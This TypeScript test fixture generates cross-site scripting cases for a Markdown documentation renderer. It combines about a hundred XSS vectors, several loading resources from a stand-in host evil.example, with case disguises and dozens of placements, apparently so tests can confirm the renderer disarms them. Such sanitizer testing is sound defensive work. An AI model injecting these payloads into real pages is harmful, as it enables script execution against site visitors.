import type { RenderContext } from '../render/rendered.ts'

export type XssCase = {
  readonly name: string
  readonly source: string
  readonly context: RenderContext
  readonly title: string
}

/** What attackers write; each runs, loads or redirects where it is not disarmed. */
const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script\n>alert(1)</script\n>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  "<img src='x'onerror='alert(1)'>",
  '<img src=javascript:alert(1)>',
  '<img srcset="x 1x" onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '"onmouseover="alert(1)',
  "' onfocus=alert(1) autofocus='",
  '`onclick=alert(1) x=`',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=data:text/html,x>',
  '<style>@import "//evil.example";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<mark style="color:red;background:url(//evil.example)">x</mark>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="x" target=_blank onclick=alert(1)>x</a>',
  '<a id="~nav" name="createElement">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<table><td><script>alert(1)</script></td></table>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x-built data-index="0"></x-built>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onclick=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT:alert(1) "y")',
  '[x](&#106;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](x)',
  '![x](x "onerror=alert(1)")',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  'javascript://example.org/%0aalert(1)',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$$\\htmlStyle{background:url(//evil.example)}{x}$$',
  '$$\\includegraphics{javascript:alert(1)}$$',
  '$$</math><script>alert(1)</script>$$',
  '{% embed url="javascript:alert(1)" %}',
  '{% hint style="x\\" onclick=\\"alert(1)" %}x{% endhint %}',
  '{% tab title="<img src=x onerror=alert(1)>" %}x{% endtab %}',
  '\uFDD00\uFDD1<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
]

const disguises: readonly (readonly [name: string, disguise: (vector: string) => string])[] = [
  ['as it is', (vector) => vector],
  ['in capitals', (vector) => vector.toUpperCase()],
  ['with blanks', (vector) => vector.replaceAll('=', ' = ').replaceAll('<', '<\u200b')],
  ['twice', (vector) => `${vector}${vector}`],
]

const attribute = (vector: string) => vector.replaceAll('"', '&quot;')
const tagValue = (vector: string) => vector.replaceAll('"', '\\"').replaceAll('\n', ' ')

/** Where it is written: a document with the vector in it. */
const positions: readonly (readonly [name: string, source: (vector: string) => string])[] = [
  ['a paragraph', (v) => v],
  ['within a line', (v) => `Text ${v} text.`],
  ['a heading', (v) => `## ${v}`],
  ['an item', (v) => `* ${v}`],
  ['a quote', (v) => `> ${v}`],
  ['an alert', (v) => `> [!NOTE]\n> ${v}`],
  ['a cell', (v) => `| a |\n| - |\n| ${v} |`],
  ['emphasis', (v) => `**${v}**`],
  ['words of a link', (v) => `[${v}](page.md)`],
  ['a destination', (v) => `[x](${v})`],
  ['a destination in brackets', (v) => `[x](<${v.replaceAll('\n', ' ')}>)`],
  ['a title of a link', (v) => `[x](page.md "${v}")`],
  ['an image', (v) => `![x](${v})`],
  ['words of an image', (v) => `![${v}](file.png)`],
  ['a definition', (v) => `[a]\n\n[a]: ${v}`],
  ['a note', (v) => `a[^1]\n\n[^1]: ${v}`],
  ['the name of a note', (v) => `a[^${v}]\n\n[^${v}]: x`],
  ['code', (v) => `\`\`\`js\n${v}\n\`\`\``],
  ['the language of code', (v) => `\`\`\`${v.replaceAll('`', '')}\nx\n\`\`\``],
  ['code of a line', (v) => `\`${v}\``],
  ['a diagram', (v) => `\`\`\`mermaid\n${v}\n\`\`\``],
  ['a formula', (v) => `$$${v}$$`],
  ['an element', (v) => `<div>${v}</div>`],
  ['a comment', (v) => `<!-- ${v} -->`],
  ['a class', (v) => `<a class="button ${attribute(v)}" href="page.md">x</a>`],
  ['an address of HTML', (v) => `<a href="${attribute(v)}">x</a>`],
  ['an address of a button', (v) => `<a class="button primary" href="${attribute(v)}">x</a>`],
  ['an icon of a button', (v) => `<a class="button primary" data-icon="${attribute(v)}" href="page.md">x</a>`],
  ['a source of HTML', (v) => `<img src="${attribute(v)}">`],
  [
    'words of an image of HTML',
    (v) => `<figure><img src="file.png" alt="${attribute(v)}"><figcaption>${v}</figcaption></figure>`,
  ],
  ['an id', (v) => `<span id="${attribute(v)}">x</span>`],
  ['a style', (v) => `<mark style="color:${attribute(v)}">x</mark>`],
  ['an icon', (v) => `<i class="fa-${attribute(v)}">x</i>`],
  ['a width', (v) => `<img src="file.png" width="${attribute(v)}">`],
  [
    'a dark image',
    (v) =>
      `<picture><source srcset="${attribute(v)}" media="(prefers-color-scheme: dark)"><img src="file.png"></picture>`,
  ],
  ['a summary', (v) => `<details>\n\n<summary>${v}</summary>\n\n${v}\n\n</details>`],
  [
    'a cell of HTML',
    (v) => `<table><thead><tr><th>${v}</th></tr></thead><tbody><tr><td>${v}</td></tr></tbody></table>`,
  ],
  [
    'a card',
    (v) =>
      `<table data-view="cards"><thead><tr><th></th><th data-hidden data-card-target data-type="content-ref"></th><th data-hidden data-card-cover data-type="files"></th></tr></thead><tbody><tr><td>${v}</td><td><a href="${attribute(v)}">x</a></td><td><a href="${attribute(v)}">x</a></td></tr></tbody></table>`,
  ],
  [
    'an option',
    (v) =>
      `<table><thead><tr><th data-type="select">x<select><option value="a" label="${attribute(v)}" color="${attribute(v)}"></option></select></th></tr></thead><tbody><tr><td><span data-option="a">x</span></td></tr></tbody></table>`,
  ],
  [
    'marked code',
    (v) => `<pre class="language-yaml" data-title="${attribute(v)}"><code>${v}\n<strong>${v}</strong></code></pre>`,
  ],
  ['an emoji', (v) => `<span data-gb-custom-inline data-tag="emoji" data-code="${attribute(v)}">x</span>`],
  [
    'a question',
    (v) =>
      `<button type="button" class="button primary" data-action="ask" data-query="${attribute(v)}" data-icon="${attribute(v)}">${v}</button>`,
  ],
  ['a hint', (v) => `{% hint style="info" %}\n${v}\n{% endhint %}`],
  ['a style of a hint', (v) => `{% hint style="${tagValue(v)}" icon="${tagValue(v)}" %}\nx\n{% endhint %}`],
  ['a hint of HTML', (v) => `<div data-gb-custom-block data-tag="hint" data-style="${attribute(v)}">${v}</div>`],
  [
    'a tab',
    (v) => `{% tabs %}\n{% tab title="${tagValue(v)}" icon="${tagValue(v)}" %}\n${v}\n{% endtab %}\n{% endtabs %}`,
  ],
  ['a step', (v) => `{% stepper %}\n{% step %}\n### ${v}\n{% endstep %}\n{% endstepper %}`],
  [
    'a column',
    (v) =>
      `{% columns %}\n{% column width="${tagValue(v)}" valign="${tagValue(v)}" %}\n${v}\n{% endcolumn %}\n{% endcolumns %}`,
  ],
  [
    'a title of code',
    (v) => `{% code title="${tagValue(v)}" lineNumbers="true" %}\n\`\`\`\n${v}\n\`\`\`\n{% endcode %}`,
  ],
  ['an embed', (v) => `{% embed url="${tagValue(v)}" %}\n${v}\n{% endembed %}`],
  ['a file', (v) => `{% file src="${tagValue(v)}" %}\n${v}\n{% endfile %}`],
  ['a reference', (v) => `{% content-ref url="${tagValue(v)}" %}\n${v}\n{% endcontent-ref %}`],
  ['an include', (v) => `{% include "${tagValue(v)}" %}`],
  ['an included text', (v) => `---\nincluded: ${JSON.stringify(v)}\n---\n\n{% include "included.md" %}`],
  [
    'an update',
    (v) =>
      `{% updates format="${tagValue(v)}" %}\n{% update date="${tagValue(v)}" tags="${tagValue(v)},t" %}\n${v}\n{% endupdate %}\n{% endupdates %}`,
  ],
  ['a condition', (v) => `{% if ${v.replaceAll('%}', '')} %}\nx\n{% endif %}\n\n{% if true %}\n${v}\n{% endif %}`],
  [
    'a prompt',
    (v) => `{% prompt description="${tagValue(v)}" icon="${tagValue(v)}" %}\n\`\`\`\n${v}\n\`\`\`\n{% endprompt %}`,
  ],
  [
    'an expression',
    (v) => `<code class="expression">${v}</code> <code class="expression">'${v.replaceAll("'", '')}'</code>`,
  ],
  ['a variable', () => '<code class="expression">space.vars.evil</code> <code class="expression">page.vars.x</code>'],
  ['a claim', () => '<code class="expression">visitor.claims.evil</code>'],
  ['an integration', (v) => `{% @acme/form url="${tagValue(v)}" %}\n\n{% @mermaid/diagram content="${tagValue(v)}" %}`],
  [
    'an operation',
    () =>
      '{% openapi src="api.yaml" path="/x" method="post" %}\n{% endopenapi %}\n\n{% openapi-schemas spec="api" schemas="S" grouped="true" %}\n{% endopenapi-schemas %}',
  ],
  [
    'an operation in tags',
    (v) =>
      `{% swagger method="${tagValue(v)}" path="${tagValue(v)}" baseUrl="${tagValue(v)}" summary="${tagValue(v)}" %}\n{% swagger-description %}\n${v}\n{% endswagger-description %}\n{% swagger-parameter in="path" name="${tagValue(v)}" type="${tagValue(v)}" %}\n${v}\n{% endswagger-parameter %}\n{% swagger-response status="${tagValue(v)}" description="${tagValue(v)}" %}\n${v}\n{% endswagger-response %}\n{% endswagger %}`,
  ],
  ['an unknown block', (v) => `{% marquee x="${tagValue(v)}" %}\n${v}\n{% endmarquee %}`],
  [
    'a title elsewhere',
    () =>
      '[x](page.md "mention")\n\n{% content-ref url="page.md" %}\n{% endcontent-ref %}\n\n{% file src="file.png" %}',
  ],
  ['the title', (v) => `# ${v}\n\ntext`],
  [
    'front matter',
    (v) =>
      `---\ndescription: ${JSON.stringify(v)}\nvars:\n  x: ${JSON.stringify(v)}\n---\n\n<code class="expression">page.vars.x</code>`,
  ],
]

/** Every vector in every disguise at every place, in an order that shows all vectors and all places early. */
export function* xssCases(): Generator<XssCase> {
  for (const [how, disguise] of disguises) {
    for (let shift = 0; shift < positions.length; shift++) {
      for (let index = 0; index < vectors.length; index++) {
        const [where, source] = positions[(index + shift) % positions.length]!
        const vector = disguise(vectors[index]!)
        yield {
          name: `${vector} in ${where}, ${how}`,
          source: source(vector),
          context: contextOf(vector),
          title: vector,
        }
      }
    }
  }
}

/** Everything that is looked up holds the vector too. */
function contextOf(vector: string): RenderContext {
  const schema = {
    type: 'object',
    title: vector,
    description: vector,
    properties: { [vector]: { type: vector, enum: [vector], example: vector, description: vector } },
  }
  const specification = {
    openapi: '3.1.0',
    servers: [{ url: vector }],
    paths: {
      '/x': {
        post: {
          summary: vector,
          description: vector,
          'x-stability': vector,
          parameters: [{ name: vector, in: 'query', description: vector, schema: { type: vector, default: vector } }],
          requestBody: { description: vector, content: { [vector]: { schema, example: vector } } },
          responses: { [vector]: { description: vector, content: { 'application/json': { schema } } } },
          'x-codeSamples': [{ lang: vector, label: vector, source: vector }],
        },
      },
    },
    components: { schemas: { S: schema } },
  }
  return {
    path: 'a.md',
    resolveLink: (destination) => {
      if (destination === 'page.md') return { kind: 'page', page: vector, anchor: vector }
      if (destination === 'file.png') return { kind: 'file', file: vector }
      return destination.length % 2 === 0 ? undefined : { kind: 'url', url: destination }
    },
    findInclude: () => ({ path: 'included.md', source: vector }),
    findSpecification: () => specification,
    variables: { evil: vector },
    visitor: { claims: { evil: vector } },
    tags: { t: { label: vector, icon: vector, color: vector }, [vector]: { label: vector } },
  }
}
